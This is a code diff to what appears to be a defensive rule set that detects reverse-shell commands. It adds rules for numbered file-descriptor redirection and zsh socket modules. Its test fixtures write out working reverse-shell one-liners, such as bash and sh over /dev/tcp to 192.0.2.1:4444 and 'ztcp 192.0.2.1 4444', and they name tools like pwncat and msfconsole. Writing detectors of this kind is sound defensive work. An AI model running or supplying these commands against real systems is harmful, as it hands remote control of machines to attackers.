@@ -63,7 +63,7 @@ export const reverseShells = familyOf('Connections that give another machine a s
     label: 'remote_code',
     message: 'Ties a shell to a connection, so that another machine can command it.',
     zh: '把 shell 绑定到网络连接，使另一台机器可以控制它。',
-    names: [...SHELLS, 'exec'],
+    names: [...SHELLS, 'exec', 'script'],
     when: (call) =>
       toSocket(call) ||
       inlineCode(call).some((word) =>
@@ -71,6 +71,18 @@ export const reverseShells = familyOf('Connections that give another machine a s
       ),
     flags: ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5'],
     spares: ['bash -i', 'echo hi > /dev/tcp/localhost/80'],
+  },
+  {
+    rule: 'reverse-shells.numbered',
+    tier: 'HIGH',
+    label: 'remote_code',
+    message: 'Runs a shell on a connection that was opened before.',
+    zh: '在先前打开的连接上运行 shell。',
+    names: SHELLS,
+    when: (call) =>
+      call.redirects.some((to) => to.operator === '<&' && /^(?:[3-9]|\d{2,4})$/.test(to.target.text)),
+    flags: ['sh <&5 >&5 2>&5'],
+    spares: ['sh build.sh 2>&1'],
   },
   {
     rule: 'reverse-shells.pipe',
@@ -127,6 +139,17 @@ export const reverseShells = familyOf('Connections that give another machine a s
     names: ['pwncat', 'pwncat-cs', 'cryptcat', 'sbd', 'rustcat', 'rcat', 'msfconsole'],
     flags: ['pwncat -l 4444'],
     spares: ['nc -z db 5432'],
+  },
+  {
+    rule: 'reverse-shells.zsh-socket',
+    tier: 'HIGH',
+    label: 'remote_code',
+    message: 'Opens a connection from within the shell, as a shell for someone else does.',
+    zh: '在 shell 内部建立连接，这是为他人提供 shell 的做法。',
+    names: ['ztcp', 'zmodload'],
+    when: (call) => call.name === 'ztcp' || hasArg(call, 'zsh/net/tcp', 'zsh/net/socket'),
+    flags: ['ztcp 192.0.2.1 4444', 'zmodload zsh/net/tcp'],
+    spares: ['zmodload zsh/datetime'],
   },
   {
     rule: 'reverse-shells.remote-input',
